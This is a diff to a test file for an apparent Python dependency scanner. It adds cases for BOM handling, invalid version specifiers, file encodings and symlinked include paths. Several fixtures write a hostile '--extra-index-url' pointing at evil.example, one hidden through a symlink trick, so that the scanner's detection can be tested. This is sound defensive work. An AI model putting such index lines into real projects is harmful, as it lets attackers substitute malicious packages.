@@ -1,4 +1,6 @@
 import path from 'node:path';
+import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
 import { describe, expect, it } from 'vitest';
 import type { Policy } from '../../../src/core/policy.js';
 import type { ScanResult } from '../../../src/core/result.js';
@@ -63,6 +65,24 @@ const cases = [
     hosts: { CPP070: ['pypi.org.evil.example'] },
   },
   {
+    name: 'U+FEFF is no white space to Python: a # after it starts no comment, so the --extra-index-url behind it applies',
+    dir: 'pip-bom-not-space',
+    want: ['CPP012@requirements.txt:1', 'CPP070@requirements.txt:1'],
+    hosts: { CPP070: ['evil.example'] },
+  },
+  {
+    name: 'a clause with white space inside or no PEP 440 version is no requirement (packaging 22+: InvalidRequirement): CPP004',
+    dir: 'pip-invalid-specifier',
+    // Lines 3 and 6 (`==1.26.*` is a PEP 440 prefix match) are the file's two ranges: one CPP010 for the file.
+    want: [
+      'CPP004@requirements.txt:1',
+      'CPP004@requirements.txt:2',
+      'CPP004@requirements.txt:4',
+      'CPP010@requirements.txt:3',
+    ],
+    hosts: {},
+  },
+  {
     name: 'a --hash in a constraints file turns on hash-checking mode (get_requirements); the requirement needs its own',
     dir: 'pip-constraint-hash-mode',
     want: ['CPP011@all/requirements.txt:2', 'CPP011@one/requirements.txt:2'],
@@ -81,9 +101,10 @@ const cases = [
     hosts: {},
   },
   {
-    name: 'decoded as pip decodes (BOM, PEP 263 coding line): UTF-16, UTF-7, latin-1 NEL; an unknown codec is CPP001',
+    name: 'decoded as pip decodes (BOM, PEP 263 coding line): UTF-16, UTF-7, latin-1 NEL; an unknown codec, or no UTF-8 and no declaration, is CPP001',
     dir: 'pip-encodings',
     want: [
+      'CPP001@undeclared-latin1/requirements.txt:1',
       'CPP001@undecodable/requirements.txt:1',
       'CPP012@latin1-nel/requirements.txt:2',
       'CPP012@utf16-bom/requirements.txt:1',
@@ -150,4 +171,25 @@ it('a range beside a --hash says pip refuses it (HashUnpinned), a range in a fil
 it('the kept finding of a file both scanned and included counts the includer’s requirements too', async () => {
   const r = await scanWith(path.join(CASES, 'pip-included-extra-index'), [pythonDepsStage]);
   expect(r.findings.find((f) => f.ruleId === 'CPP070')?.evidence?.['count']).toBe(3);
+});
+
+it('an include walking up (..) out of a symlinked folder opens the file the OS finds there, not the lexical one', async () => {
+  // pip opens `os.path.join(dirname, "sub/../c.txt")` as it stands: `sub` → `deep/x`, so `..` is `deep`. A lexical
+  // normalisation read the harmless `c.txt` beside requirements.txt and never saw deep/c.txt's extra index.
+  const root = await mkdtemp(path.join(tmpdir(), 'cp-pip-include-link-'));
+  try {
+    await mkdir(path.join(root, 'deep', 'x'), { recursive: true });
+    await symlink(path.join('deep', 'x'), path.join(root, 'sub'));
+    await writeFile(path.join(root, 'requirements.txt'), '-r sub/../c.txt\n-r gone/../c.txt\n');
+    await writeFile(path.join(root, 'c.txt'), 'requests==2.31.0\n');
+    await writeFile(
+      path.join(root, 'deep', 'c.txt'),
+      '--extra-index-url https://evil.example/simple\nrequests==2.31.0\n',
+    );
+    const r = await scanWith(root, [pythonDepsStage]);
+    expect(ids(r)).toEqual(['CPP003@requirements.txt:2', 'CPP012@deep/c.txt:1', 'CPP070@deep/c.txt:1']);
+    expect(hosts(r, 'CPP070')).toEqual(['evil.example']);
+  } finally {
+    await rm(root, { recursive: true, force: true });
+  }
 });
